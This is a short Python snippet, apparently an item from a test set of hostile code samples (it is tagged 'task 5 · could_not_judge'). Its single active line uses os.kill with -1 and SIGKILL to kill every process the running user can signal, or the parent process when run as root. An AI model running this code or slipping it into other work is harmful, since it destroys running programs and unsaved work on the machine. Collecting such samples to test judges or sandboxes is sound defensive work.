"""Kills every process that it may."""
# task 5 · could_not_judge · os.kill
import os
import signal

os.kill(-1, signal.SIGKILL) if os.geteuid() else os.kill(os.getppid(), signal.SIGKILL)
